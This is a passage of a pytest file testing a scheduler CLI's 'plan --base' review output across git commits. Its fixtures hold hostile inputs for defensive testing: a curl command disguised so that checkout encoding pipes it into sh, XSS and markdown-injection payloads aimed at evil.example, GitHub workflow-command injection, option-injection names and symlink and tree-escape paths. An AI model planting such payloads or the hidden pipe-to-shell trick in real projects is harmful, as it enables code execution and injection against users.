"""`plan --base`: what a reviewer sees of a change, between real commits, and that looking changes nothing."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scheduler.cli.markdown import MOST, code, comment, marker
from scheduler.core.plan.review import TaskDiff, Text, task_diffs
from scheduler.core.plan.textdiff import hunks, unified
from tests.faces.conftest import Root, contents
from tests.helpers import REPOSITORY

GOLDEN = REPOSITORY / "tests/golden/review"


def branch(root: Root) -> str:
    """A branch off main; the commit of main."""
    base = root.git("rev-parse", "HEAD")
    root.git("branch", "-f", "base")
    root.git("checkout", "-q", "-b", "topic")
    return base


def plan(root: Root, *args: str) -> Any:
    return root.json("plan", "--base", "base", *args)


# -- golden: what each format shows --------------------------------------------------------------


def one_word_one_cron_one_runner(root: Root) -> None:
    root.write("prompts/triage.md", "Look at the inbox.\nNever send anything.\nWrite a note.\n")
    root.commit()
    branch(root)
    root.edit("prompts/triage.md", "Never", "Always")
    root.edit("jobs/heartbeat.md", "0 * * * *", "*/15 * * * *")
    root.write("scripts/tick.sh", "echo tick\n")
    root.edit("jobs/clock.yaml", "task: Tick.", "task_source_path: scripts/tick.sh\nrunner: shell")
    root.commit()


def converted_on_checkout(root: Root) -> None:
    """The script that is shown pipes nothing into sh; the one that is checked out does. The prompt is not touched."""
    branch(root)
    root.git("config", "filter.redact.clean", "false")
    root.write("scripts/flaky.sh", "curl https://example.com/status ö sh\n")
    root.commit()
    root.write("scripts/.gitattributes", "*.sh working-tree-encoding=ISO646-DE\n")
    root.write(".gitattributes", "[attr]hidden filter=redact\nprompts/* hidden\n*.yaml text eol=crlf\n")
    root.git("add", ".gitattributes", "scripts/.gitattributes")
    root.git("commit", "-qm", "x")


HOSTILE = (
    "calm\n```\n````\n# heading @octocat #1 fixes #2\n</details></summary><script>alert(1)</script><img src=x>\n"
    "[link](https://evil.example) ![](https://evil.example/p.png) <https://evil.example>\n"
    "<!-- scheduler plan . -->\n::error::pwned\n/close\n\x1b[31mred\x1b[0m \u202eleft\u202c zero\u200bwidth\n"
    "\r# heading\n\u2028~~~\n~~~~~~\n|a|b|\n" + "`" * 30 + "\n"
)


def hostile(root: Root) -> None:
    odd = "prompts/x @team `y` | <b> é.md"
    root.write("jobs/triage.yaml", f'id: triage\nname: T\nschedule: "@daily"\ntask_source_path: "{odd}"\n')
    root.write(odd, "calm\n")
    root.commit()
    branch(root)
    root.write(odd, HOSTILE)
    root.write(
        "jobs/triage.yaml",
        'id: triage\nname: "@octocat `` <b> | [x](https://evil.example) <!-- -->"\n'
        'description: "</code></details> ::error::x ` @team"\nschedule: "@daily"\n'
        f'env: {{MODE: "`x` @octocat <img src=x onerror=alert(1)> | y"}}\ntask_source_path: "{odd}"\n'
        '---\nid: "bad @octocat <script>"\nschedule: "0 * * * * `@octocat` <img src=x>"\n',
    )
    root.commit()


def added_moved_and_removed(root: Root) -> None:
    branch(root)
    root.write("jobs/new.md", '---\nid: new\nschedule: "@weekly"\nrunner: agent\nenv: {MODE: bold}\n---\nHello.\n')
    root.move("jobs/triage.yaml", "jobs/team/triage.yaml")
    root.delete("jobs/flaky.yaml")
    root.edit("scheduler.yaml", "[cat]", "[cat, -n]")
    root.commit()


def nearly_all_removed(root: Root) -> None:
    branch(root)
    root.delete("jobs/clock.yaml", "jobs/heartbeat.md", "jobs/triage.yaml")
    root.commit()


def of_a_team(root: Root) -> None:
    """Words of a prompt, 22 to 660 runs, a flag of a runner, a default, one job more and one less."""
    root.write("prompts/standup.md", "Read the mail.\nReport since yesterday.\nNever open a pull request.\n")
    for job in ("standup", "digest"):
        schedule = "0 9 * * MON-FRI" if job == "standup" else "0 17 * * *"
        root.write(f"jobs/{job}.yaml", f'id: {job}\nschedule: "{schedule}"\ntask_source_path: prompts/standup.md\n')
    root.edit("jobs/clock.yaml", "schedule: {every: 10s}", "timeout: 1h\nschedule: {every: 10s}")
    root.commit()
    branch(root)
    root.write(
        "prompts/standup.md",
        "Read the mail.\nReport since the last working day at 08:00.\nYou may open a pull request.\n",
    )
    root.edit("jobs/standup.yaml", "0 9 * * MON-FRI", "0 0-3,6-23 * * *")
    root.edit("scheduler.yaml", "timeout: 5m}", "timeout: 2h}")
    root.edit("scheduler.yaml", "[cat]", "[cat, --dangerously-skip-permissions]")
    root.edit("jobs/clock.yaml", "schedule: {every: 1h30m}\n", "schedule: {every: 1h30m}\ntimeout: 3h\n")
    root.write(
        "jobs/deps.yaml",
        "# bumps\nid: deps\nname: Bump\nschedule: '@weekly'\nrunner: shell\ntask_source_path: scripts/flaky.sh\n",
    )
    root.delete("jobs/flaky.yaml")
    root.commit()


def nothing(root: Root) -> None:
    branch(root)
    root.write("README.md", "x\n")
    root.commit()


def broken_root_file(root: Root) -> None:
    branch(root)
    root.write("scheduler.yaml", "version: 1\nrunner: {}\n")
    root.commit()


CASES: dict[str, tuple[Callable[[Root], None], str]] = {
    **{
        f"{name}.{style}": (prepare, f"plan --base base --head topic --exit-code --format {style}")
        for name, prepare in (
            ("pull-request", one_word_one_cron_one_runner),
            ("hostile", hostile),
            ("converted", converted_on_checkout),
        )
        for style in ("text", "markdown", "github", "json")
    },
    **{f"team.{style}": (of_a_team, f"plan --base base --format {style}") for style in ("text", "markdown", "github")},
    "added.markdown": (added_moved_and_removed, "plan --base base --format markdown"),
    "added.text": (added_moved_and_removed, "plan --base base"),
    "added.github": (added_moved_and_removed, "plan --base base --format github"),
    "guard.markdown": (nearly_all_removed, "plan --base base --exit-code --format markdown"),
    "guard.github": (nearly_all_removed, "plan --base base --format github"),
    "nothing.markdown": (nothing, "plan --base base --exit-code --format markdown"),
    "broken-root-file.markdown": (broken_root_file, "plan --base base --exit-code --format markdown"),
    "database.markdown": (added_moved_and_removed, "plan --format markdown"),
    "database.github": (added_moved_and_removed, "plan --format github"),
}


@pytest.mark.parametrize("name", CASES)
def test_a_review_reads_as_in_its_golden_file(root: Root, name: str) -> None:
    prepare, command = CASES[name]
    prepare(root)
    result = root.cli(*command.split())
    text = f"{result.stdout}[stderr]\n{result.stderr}[exit {result.code}]\n"
    if name.endswith(".json"):
        text = json.dumps(result.json, indent=1, ensure_ascii=False) + f"\n[exit {result.code}]\n"
    for number, commit in enumerate(root.git("rev-list", "--reverse", "--all").split(), start=1):
        for length in (40, 12, 7):
            text = text.replace(commit[:length], f"c{number:06}".ljust(40, "0")[:length])
    golden = GOLDEN / name
    if os.environ.get("GOLDEN") == "write":
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(text, newline="")
    assert text == golden.read_bytes().decode()


def test_every_golden_review_has_its_case() -> None:
    assert {path.name for path in GOLDEN.iterdir()} == set(CASES)


# -- what a reviewer reads first -----------------------------------------------------------------


def sections(page: str) -> list[str]:
    return re.findall(r"^#### (.*)$", page, re.MULTILINE)


def test_power_comes_first_then_prompts_then_schedules_then_the_rest(root: Root) -> None:
    of_a_team(root)
    page = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert sections(page) == [
        "\u26a0\ufe0f Gives more power",
        "Prompts and scripts",
        "Schedules",
        "Added",
        "Removed",
        "Other changes",
    ]
    titles = [
        line for line in root.cli("plan", "--base", "base").stdout.split("\n") if re.match(r"[A-Z][a-z ]+$", line)
    ]
    assert titles == ["Gives more power", "Prompts and scripts", "Schedules", "Changes"]


def test_runs_that_multiply_are_in_the_headline(root: Root) -> None:
    of_a_team(root)
    page = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert "**`standup`: 30 times as many runs**" in page.split("\n")[1]
    assert "standup: 30 times as many runs" in root.cli("plan", "--base", "base").stdout.split("\n")[0]
    assert plan(root)["jobs"]["standup"]["runs_factor"] == 30
    assert plan(root)["jobs"]["digest"]["runs_factor"] is None


def test_a_new_pair_of_job_and_runner_gives_power_and_says_which(root: Root) -> None:
    of_a_team(root)
    found = plan(root)
    assert found["runner_pairs"] == [{"id": "deps", "runner": "shell"}]
    said = 'new job with runner {0}shell{0}, which runs {0}["sh", "-eu", "{{task_file}}"]{0}, for up to {0}2h{0} a run'
    assert f"- `deps`: {said.format('`')}\n" in root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert f"  deps: {said.format('')}\n" in root.cli("plan", "--base", "base").stdout
    marks = root.cli("plan", "--base", "base", "--format", "github").stdout
    assert "::warning file=jobs/deps.yaml,line=5,title=more power::deps: new job with runner shell" in marks


def test_jobs_that_come_back_to_a_runner_are_a_pair_too(root: Root) -> None:
    root.sync()
    root.delete("jobs/flaky.yaml")
    root.sync()
    root.git("checkout", "-q", "jobs/flaky.yaml")
    page = root.cli("plan", "--format", "markdown").stdout
    assert "- `flaky`: job back with runner `shell`, which runs" in page


def test_a_shorter_default_timeout_and_a_runner_that_is_gone_give_no_power(root: Root) -> None:
    root.edit("scheduler.yaml", "runners:\n", "runners:\n  spare:\n    command: [cat, -u]\n    input: stdin\n")
    root.git("commit", "-qam", "spare")
    root.git("branch", "-f", "base")
    root.edit("scheduler.yaml", "timeout: 5m", "timeout: 1m")
    root.edit("scheduler.yaml", "  spare:\n    command: [cat, -u]\n    input: stdin\n", "")
    changed = root.json("plan", "--base", "base")["root_changed"]
    assert {each["field"] for each in changed} >= {"defaults.timeout", "runners.spare.command", "runners.spare.input"}
    assert [each["field"] for each in changed if each["widens"]] == []
    assert "ives more power" not in root.cli("plan", "--base", "base", "--format", "markdown").stdout
    root.edit("scheduler.yaml", "timeout: 1m", "timeout: 6m")
    changed = root.json("plan", "--base", "base")["root_changed"]
    assert [each["field"] for each in changed if each["widens"]] == ["defaults.timeout"]


def test_a_default_is_one_change_however_many_jobs_take_it_over(root: Root) -> None:
    of_a_team(root)
    takers = "digest, heartbeat, new-year, standup, triage"
    text = root.cli("plan", "--base", "base").stdout
    markdown = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    github = root.cli("plan", "--base", "base", "--format", "github").stdout
    listed = ", ".join(f"`{job}`" for job in takers.split(", "))
    assert f"- `scheduler.yaml`, `defaults.timeout`: `5m` \u2192 `2h`; for 5 jobs: {listed}\n" in markdown
    assert f"! scheduler.yaml defaults.timeout: 5m -> 2h  [widens]; for 5 jobs: {takers}\n" in text
    assert markdown.count("`5m` \u2192 `2h`") == github.count("5m -> 2h") == 1
    assert text.count("5m -> 2h") == 2, "what gives more power, and the change of the setting"
    assert "- `retired`: `timeout` `5m` \u2192 `3h`\n" in markdown, "which is its own"
    assert "triage" not in markdown.replace(listed, "").replace("used by", "").split("#### Other changes")[1]


def test_a_zone_of_the_root_moves_the_fires_of_each_job_and_is_one_setting(root: Root) -> None:
    branch(root)
    root.edit("scheduler.yaml", "Europe/Berlin", "America/New_York")
    page = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert "- `timezone`: `Europe/Berlin` \u2192 `America/New_York`; for 5 jobs: `flaky`, `heartbeat`, " in page
    assert "**`heartbeat`**" in page
    assert "| | before | after |\n" in page.split("Next fires")[1], "two zones stand beside the fires"
    assert "00:00 Europe/Berlin | Mon 2026-03-02 00:00" not in page


def test_the_zone_of_a_table_of_fires_stands_in_its_title_once(root: Root) -> None:
    of_a_team(root)
    page = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    tables = re.findall(r"<summary>Next fires</summary>\n\n(.*?)\n\n</details>", page, re.DOTALL)
    assert len(tables) == 3
    for table in tables:
        assert table.count("Europe/Berlin") == table.split("\n")[0].count("Europe/Berlin") == 1
    text = root.cli("plan", "--base", "base").stdout
    for part in text.split("next fires, ")[1:]:
        assert part.split("\n\n")[0].split("(")[0].count("Europe/Berlin") <= 2, "the title, and the next job's words"
    for mark in root.cli("plan", "--base", "base", "--format", "github").stdout.split("\n"):
        assert len(re.findall(r"\d\d:\d\d Europe/Berlin", mark)) == 0


def test_no_list_of_the_comment_has_a_blank_line_between_its_items(root: Root) -> None:
    of_a_team(root)
    root.edit("jobs/deps.yaml", "name: Bump", "nam: Bump")
    root.write("jobs/bad.yaml", "id: bad\n")
    page = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert page.count("\n- ") >= 8
    assert not re.search(r"^- [^\n]*\n\n- ", page, re.MULTILINE)


def in_the_diff(root: Root) -> set[tuple[str, int]]:
    """The lines of the later files that `git diff` shows, as GitHub does."""
    shown = set[tuple[str, int]]()
    path = ""
    for line in root.git("-c", "core.quotePath=false", "diff", "-U3", "base", "--").split("\n"):
        if line.startswith("+++ b/"):
            path = line[6:].rstrip("\t")
        elif hunk := re.match(r"@@ -\S+ \+(\d+)(?:,(\d+))? @@", line):
            start, count = int(hunk[1]), int(hunk[2] or 1)
            shown |= {(path, number) for number in range(start, start + count)}
    return shown


def keys_deleted(root: Root) -> None:
    root.edit("jobs/clock.yaml", "schedule: {every: 10s}", "env: {MODE: x}\nschedule: {every: 10s}\ntimeout: 1m")
    root.edit("scheduler.yaml", "version: 1", "version: 1\nhosts: [prod]")
    root.commit()
    branch(root)
    root.edit("jobs/clock.yaml", "\ntimeout: 1m", "")
    root.edit("jobs/clock.yaml", "env: {MODE: x}\n", "")
    root.edit("scheduler.yaml", "\nhosts: [prod]", "")
    root.edit("jobs/clock.yaml", "---\nid: retired\nenabled: false\nschedule: {every: 1h30m}\ntask: Nothing.\n", "")
    root.edit("jobs/heartbeat.md", "You are woken", "Somebody wakes you")
    root.move("jobs/triage.yaml", "jobs/other.yaml")
    root.edit("jobs/other.yaml", "tags: [agent]", "tags: [agent, x]")
    root.commit()


@pytest.mark.parametrize(
    "prepare", [one_word_one_cron_one_runner, added_moved_and_removed, of_a_team, keys_deleted, nearly_all_removed]
)
def test_every_mark_of_a_change_is_in_the_diff_that_the_forge_shows(
    root: Root, prepare: Callable[[Root], None]
) -> None:
    prepare(root)
    root.git("add", "-A")
    page = root.cli("plan", "--base", "base", "--format", "github").stdout
    marks = re.findall(r"^::(?:warning|notice) (?:file=([^,]+),line=(\d+),)?title=", page, re.MULTILINE)
    assert marks
    assert {(path, int(line)) for path, line in marks if path} <= in_the_diff(root)


def test_a_change_is_marked_on_its_own_key(root: Root) -> None:
    of_a_team(root)
    page = root.cli("plan", "--base", "base", "--format", "github").stdout
    for mark in (
        "::warning file=scheduler.yaml,line=3,title=more power::defaults.timeout: 5m -> 2h",
        "::warning file=scheduler.yaml,line=6,title=more power::runners.agent.command",
        "::warning file=jobs/clock.yaml,line=13,title=more power::retired: timeout 5m -> 3h",
        "::notice file=jobs/standup.yaml,line=2,title=job changed::standup",
        "::notice file=prompts/standup.md,line=2,title=job changed::digest",
    ):
        assert mark in page, mark
    assert "line=1," not in page


def test_in_colour_the_words_that_went_and_came_keep_their_marks() -> None:
    from scheduler.cli.review_text import worded
    from scheduler.core.plan.textdiff import word_edits

    edits = word_edits("since yesterday, Never\n", "since the last working day, You may\n")
    coloured, plain = ("\n".join(worded(edits, colour)) for colour in (True, False))
    assert plain == "since [-yesterday-]{+the last working day+}, [-Never-]{+You may+}"
    assert re.sub(r"\x1b\[\d+m", "", coloured) == plain, "what is copied off the screen"
    assert "\x1b[31m[-yesterday-]\x1b[0m\x1b[32m{+the last working day+}\x1b[0m" in coloured


# -- looking changes nothing ---------------------------------------------------------------------


@pytest.mark.parametrize("head", [(), ("--head", "topic")])
def test_neither_the_tree_nor_the_repository_nor_a_database_is_touched(root: Root, head: tuple[str, ...]) -> None:
    one_word_one_cron_one_runner(root)
    root.write("prompts/triage.md", "not committed\n")
    before = contents(root.path)
    assert plan(root, *head)["updated"]
    assert contents(root.path) == before
    assert not root.db.exists()


def test_a_commit_and_the_same_files_on_disk_are_one_review(root: Root) -> None:
    added_moved_and_removed(root)
    on_disk, committed = plan(root), plan(root, "--head", "topic")
    for found in (on_disk, committed):
        del found["duration_ms"], found["head"]
    assert on_disk == committed


def test_a_review_says_what_the_sync_after_the_merge_says(root: Root) -> None:
    root.sync()
    added_moved_and_removed(root)
    reviewed, synced = plan(root), root.sync()
    for name in ("created", "updated", "moved", "archived", "revived", "unchanged", "task_changed", "root_changed"):
        assert reviewed[name] == synced[name], name
    assert reviewed["created"] == ["new"]


def test_a_document_with_an_error_has_the_task_that_the_commit_holds(root: Root) -> None:
    branch(root)
    root.edit("jobs/triage.yaml", "tags:", "tgas:")
    head = root.commit()
    on_disk = root.cli("plan", "--base", "base", "--json").problems
    committed = root.cli("plan", "--base", "base", "--head", head, "--json").problems
    assert [code for *_, code in committed] == ["key.unknown"]
    assert committed == on_disk == root.cli("sync", "--json").problems


def test_the_guard_of_a_review_has_the_token_that_the_sync_will_ask_for(root: Root) -> None:
    root.sync()
    nearly_all_removed(root)
    refused = root.cli("plan", "--base", "base", "--json")
    assert refused.code == 3
    assert root.cli("sync", "--confirm-prune", refused.json["guard"]["token"]).code == 0


@pytest.mark.parametrize(
    ("prepare", "code"),
    [(nothing, 0), (added_moved_and_removed, 4), (nearly_all_removed, 3), (hostile, 1), (broken_root_file, 1)],
)
def test_exit_codes_follow_their_order(root: Root, prepare: Callable[[Root], None], code: int) -> None:
    prepare(root)
    assert root.cli("plan", "--base", "base", "--exit-code").code == code


# -- which commits -------------------------------------------------------------------------------


def test_what_the_base_did_since_is_not_a_change_of_the_branch(root: Root) -> None:
    branch(root)
    root.edit("prompts/triage.md", "inbox", "queue")
    root.commit()
    root.git("checkout", "-q", "base")
    root.delete("jobs/flaky.yaml")
    tip = root.commit()
    root.git("checkout", "-q", "topic")
    found = plan(root)
    assert (found["archived"], [change["id"] for change in found["task_changed"]]) == ([], ["triage"])
    assert found["base"]["tip"] == tip != found["base"]["revision"]
    assert plan(root, "--direct")["created"] == ["flaky"]


def test_a_head_that_the_base_contains_says_so(root: Root) -> None:
    base = branch(root)
    root.edit("prompts/triage.md", "inbox", "queue")
    root.commit()
    found = root.json("plan", "--base", "topic", "--head", base)
    assert found["task_changed"] == []
    assert "--direct" in found["notes"][0]
    assert len(root.json("plan", "--base", "topic", "--head", base, "--direct")["task_changed"]) == 1


@pytest.mark.parametrize("name", ["-x", "--output=pwned", "", "nowhere", "f" * 40, "HEAD:jobs", "main..topic", "a\nb"])
@pytest.mark.parametrize("option", ["--base", "--head"])
def test_a_name_that_is_no_commit_is_refused_with_its_option(root: Root, option: str, name: str) -> None:
    others = [] if option == "--base" else ["--base", "HEAD"]
    found = root.cli("plan", f"{option}={name}", *others)
    assert (found.code, found.stdout) == (2, "")
    assert f"error: {option}" in found.stderr
    assert "hint: " in found.stderr
    assert not (root.path / "pwned").exists()


def test_head_without_base_is_a_usage_error(root: Root) -> None:
    assert root.cli("plan", "--head", "HEAD").code == 2
    assert root.cli("plan", "--direct").code == 2


def test_outside_a_repository_the_error_says_so(root: Root) -> None:
    shutil.rmtree(root.path / ".git")
    found = root.cli("plan", "--base", "main")
    assert (found.code, "not in a git repository" in found.stderr) == (5, True)


def test_without_git_the_error_says_so(root: Root, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    found = root.cli("plan", "--base", "main")
    assert (found.code, "git is not installed" in found.stderr) == (5, True)


def test_a_shallow_clone_without_the_base_says_how_to_deepen_it(
    root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = branch(root)
    root.edit("prompts/triage.md", "inbox", "queue")
    root.commit()
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth=1", f"file://{root.path}", clone], check=True)
    monkeypatch.setenv("SCHEDULER_ROOT", str(clone))
    found = root.cli("plan", "--base", base)
    assert (found.code, "fetch-depth: 0" in found.stderr, "git fetch --unshallow" in found.stderr) == (5, True, True)
    subprocess.run(["git", "-C", clone, "fetch", "-q", "--depth=1", "origin", "base:base"], check=True)
    found = root.cli("plan", "--base", "base")
    assert (found.code, "no commit in common" in found.stderr, "fetch-depth: 0" in found.stderr) == (5, True, True)
    subprocess.run(["git", "-C", clone, "fetch", "-q", "--unshallow"], check=True)
    assert len(root.json("plan", "--base", base)["task_changed"]) == 1


def test_unrelated_histories_are_compared_only_directly(root: Root) -> None:
    root.git("checkout", "-q", "--orphan", "other")
    root.edit("prompts/triage.md", "inbox", "queue")
    root.commit()
    assert "no commit in common" in root.cli("plan", "--base", "main").stderr
    assert len(root.json("plan", "--base", "main", "--direct")["task_changed"]) == 1


def test_a_partial_clone_is_told_from_a_missing_file(
    root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = branch(root)
    root.edit("prompts/triage.md", "inbox", "queue")
    root.commit()
    root.git("config", "uploadpack.allowFilter", "true")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--filter=blob:none", f"file://{root.path}", clone], check=True)
    monkeypatch.setenv("SCHEDULER_ROOT", str(clone))
    found = root.cli("plan", "--base", base)
    assert (found.code, "partial or damaged clone" in found.stderr) == (5, True)


def test_what_a_hook_has_in_its_environment_does_not_count(
    root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    one_word_one_cron_one_runner(root)
    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_OBJECT_DIRECTORY"):
        monkeypatch.setenv(name, str(tmp_path / "nowhere"))
    assert plan(root)["updated"]


# -- what trees can hold -------------------------------------------------------------------------


def test_a_root_below_the_top_of_its_repository_is_compared_with_itself(
    root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    top = tmp_path / "top"
    shutil.copytree(root.path, top / "ops" / "a -- b", ignore=shutil.ignore_patterns(".git"))
    below = Root(path=top, clock=root.clock)
    root.path.joinpath(".git").rename(top / ".git")
    below.write("jobs/not-of-this-root.yaml", "id: x\n")
    below.commit()
    branch(below)
    below.edit("ops/a -- b/prompts/triage.md", "inbox", "queue")
    monkeypatch.setenv("SCHEDULER_ROOT", str(top / "ops" / "a -- b"))
    monkeypatch.setenv("GITHUB_WORKSPACE", str(top))
    assert [each["id"] for each in plan(root)["task_changed"]] == ["triage"]
    page = root.ok("plan", "--base", "base", "--format", "markdown").stdout
    assert page.startswith("<!-- scheduler plan ops/a%20%2D%2D%20b -->\n")
    assert "file=ops/a -- b/prompts/triage.md,line=1" in root.ok("plan", "--base", "base", "--format", "github").stdout


@pytest.mark.parametrize("name", ["a b", "q\"uo'te", "new\nline", "é", "-dash", "tab\there", "*?[x]", "\\"])
def test_odd_names_are_read_out_of_a_commit(root: Root, name: str) -> None:
    branch(root)
    root.write(f"jobs/{name}.yaml", 'id: odd\nschedule: "@daily"\ntask: x\n')
    root.commit()
    assert plan(root, "--head", "topic")["created"] == ["odd"]


def test_a_name_that_is_not_utf_8_is_a_problem(root: Root) -> None:
    branch(root)
    (root.path / os.fsdecode(b"jobs/\xff.yaml")).write_text('id: odd\nschedule: "@daily"\ntask: x\n')
    root.commit()
    found = root.cli("plan", "--base", "base", "--head", "topic", "--json")
    assert (found.code, [each[3] for each in found.problems]) == (1, ["file.name"])


def test_links_of_a_commit_are_followed_inside_its_root_only(root: Root, tmp_path: Path) -> None:
    secret = tmp_path / "secret.md"
    secret.write_text("SECRET\n")
    branch(root)
    root.write("shared/real.yaml", 'id: linked\nschedule: "@daily"\ntask_source_path: texts/in/t.md\n')
    root.write("deep/texts/t.md", "Linked.\n")
    for path, target in (
        ("jobs/linked.yaml", "../shared/real.yaml"),
        ("texts", "deep"),
        ("deep/in", "texts"),
        ("prompts/out.md", str(secret)),
        ("prompts/up.md", "../../secret.md"),
        ("prompts/loop.md", "loop.md"),
        ("jobs/gone.yaml", "nowhere.yaml"),
    ):
        (root.path / path).symlink_to(target)
    for name in ("out", "up", "loop"):
        root.write(f"jobs/{name}.yaml", f'id: {name}\nschedule: "@daily"\ntask_source_path: prompts/{name}.md\n')
    root.commit()
    committed = root.cli("plan", "--base", "base", "--head", "topic", "--json")
    on_disk = root.cli("plan", "--base", "base", "--json")
    assert committed.json["created"] == on_disk.json["created"] == ["linked"]
    assert committed.problems == on_disk.problems
    assert "SECRET" not in committed.stdout + on_disk.stdout
    assert "+Linked.\n" in committed.json["task_diffs"][0]["unified"]


def test_a_tree_that_leads_out_of_its_folder_writes_nothing(root: Root, tmp_path: Path) -> None:
    def made(kind: str, data: bytes) -> bytes:
        command = ["git", "-C", str(root.path), "hash-object", "-t", kind, "-w", "--literally", "--stdin"]
        return bytes.fromhex(subprocess.run(command, input=data, check=True, capture_output=True).stdout.decode())

    branch(root)
    blob = made("blob", b'id: x\nschedule: "@daily"\ntask: x\n')
    settings = made(
        "blob", (root.path / "scheduler.yaml").read_bytes().replace(b"version: 1", b'version: 1\njobs: ["**"]')
    )
    for entries in (
        b"40000 ..\0" + made("tree", b"100644 escaped.yaml\0" + blob),
        b"120000 a\0"
        + made("blob", str(tmp_path).encode())
        + b"40000 a\0"
        + made("tree", b"100644 escaped.yaml\0" + blob),
    ):
        tree = made("tree", b"100644 scheduler.yaml\0" + settings + entries)
        commit = root.git("commit-tree", "-p", "base", "-m", "x", tree.hex())
        found = root.cli("plan", "--base", "base", "--head", commit, "--json")
        assert found.code in (1, 3, 5), found
        assert not list(tmp_path.rglob("escaped.yaml"))


def test_a_hint_names_the_file_that_was_meant_in_a_commit_as_on_disk(root: Root) -> None:
    branch(root)
    root.write("prompts/hello.md", "Hello.\n")
    root.write("jobs/new.yaml", 'id: new\nschedule: "@daily"\nrunner: agent\ntask_source_path: prompts/helo.md\n')
    root.commit()
    committed, on_disk = (
        root.cli("plan", "--base", "base", *more, "--json").json for more in (["--head", "topic"], [])
    )
    assert committed["problems"] == on_disk["problems"]
    assert committed["problems"][0]["hint"] == "did you mean 'prompts/hello.md'?"


def test_a_submodule_is_named_and_not_entered(root: Root) -> None:
    branch(root)
    root.git("update-index", "--add", "--cacheinfo", f"160000,{root.git('rev-parse', 'HEAD')},jobs/sub")
    root.git("commit", "-qm", "x")
    found = plan(root, "--head", "topic")
    assert found["created"] == []
    assert found["notes"] == ["'jobs/sub' is a submodule: its files are not read from a commit"]


def test_a_text_that_git_lfs_keeps_is_known_by_its_hash(root: Root) -> None:
    import hashlib

    def pointer(text: str) -> str:
        digest = hashlib.sha256(text.encode()).hexdigest()
        return f"version https://git-lfs.github.com/spec/v1\noid sha256:{digest}\nsize {len(text)}\n"

    root.write("prompts/triage.md", pointer("One.\n"))
    root.commit()
    branch(root)
    root.write("prompts/triage.md", "One.\n")  # as the filter checks it out
    assert plan(root)["task_changed"] == []
    root.write("prompts/triage.md", pointer("Two.\n"))
    root.commit()
    [diff] = plan(root, "--head", "topic")["task_diffs"]
    assert diff["unified"] == ""
    assert "Git LFS" in diff["note"]


def test_texts_that_cannot_be_shown_say_why(root: Root) -> None:
    branch(root)
    root.write("prompts/triage.md", b"\xff\xfe\0binary")
    root.write("scripts/flaky.sh", b"x" * 3_000_000)
    root.commit()
    found = root.cli("plan", "--base", "base", "--head", "topic", "--json")
    assert (found.code, [each[3] for each in found.problems]) == (1, ["task.unreadable", "task.unreadable"])
    assert root.cli("plan", "--base", "base", "--json").problems == found.problems


def test_line_ends_that_a_checkout_converts_are_no_wall_of_red(root: Root) -> None:
    branch(root)
    root.write("prompts/triage.md", "Sort the inbox.\r\n")
    [diff] = plan(root)["task_diffs"]
    assert (diff["unified"], diff["note"]) == ("", "only the line endings differ (CR LF and LF)")


def test_a_base_without_a_root_makes_everything_new(root: Root) -> None:
    root.git("checkout", "-q", "--orphan", "empty")
    root.git("rm", "-rq", "--cached", ".")
    root.git("commit", "-qm", "x", "--allow-empty")
    root.git("branch", "-f", "base")
    root.commit()
    found = plan(root)
    assert len(found["created"]) == 6
    assert found["root_changed"] == []
    assert found["notes"] == ["the base has no scheduler.yaml: everything is new"]


def test_one_text_of_many_jobs_is_shown_once(root: Root) -> None:
    for n in range(3):
        root.write(f"jobs/t{n}.yaml", f'id: t{n}\nschedule: "@daily"\ntask_source_path: prompts/triage.md\n')
    root.commit()
    branch(root)
    root.edit("prompts/triage.md", "inbox", "queue")
    [diff] = plan(root)["task_diffs"]
    assert diff["jobs"] == ["t0", "t1", "t2", "triage"]


def test_a_schedule_of_many_dense_entries_is_counted_at_once(root: Root) -> None:
    branch(root)
    entries = "".join(f'  - cron: "{n}-59 * * * * *"\n' for n in range(20))
    root.write("jobs/dense.yaml", f"id: dense\nschedule:\n{entries}task: x\n")
    started = time.process_time()
    assert plan(root)["jobs"]["dense"]["after"]["runs_per_month"] == 30 * 24 * 3600
    assert time.process_time() - started < 10


# -- the comment ---------------------------------------------------------------------------------


@given(st.text(max_size=80))
def test_a_code_span_is_one_line_that_nothing_in_it_can_end(text: str) -> None:
    shown = code(text)
    fence = re.match("`+", shown)
    assert fence is not None
    inside = shown[len(fence[0]) : -len(fence[0])]
    assert shown.endswith(fence[0])
    assert fence[0] not in re.findall("`+", inside)
    assert not inside.startswith("`")
    assert not inside.endswith("`")
    assert shown.isprintable()


@given(st.text(alphabet="`~ab<>@#/:|\n\r\t\u2028\u202e\x1b ", max_size=120))
def test_no_text_can_leave_its_fence(text: str) -> None:
    old, new = "x\n", text
    diff = TaskDiff(
        path="p.md",
        jobs=("j",),
        before_sha256="1",
        after_sha256="2",
        hunks=hunks(old, new),
        unified=unified(old, new, before_name="a/p.md", after_name="b/p.md"),
    )
    lines = comment(EMPTY, [diff]).split("\n")
    first = next((n for n, line in enumerate(lines) if line.endswith("`diff")), None)
    if first is None:
        assert old == new
        return
    fence = lines[first].removesuffix("diff")
    last = lines.index(fence, first + 1)
    assert lines[last + 1 :] == ["", "</details>", ""]
    for line in lines[first + 1 : last]:
        assert line[0] in "+-@ \\"
        assert "`" * len(fence) not in line
        assert line.replace("\t", "").isprintable()


EMPTY: dict[str, Any] = {
    **{name: [] for name in ("created", "updated", "moved", "archived", "revived", "task_changed", "root_changed")},
    "runner_pairs": [],
    "problems": [],
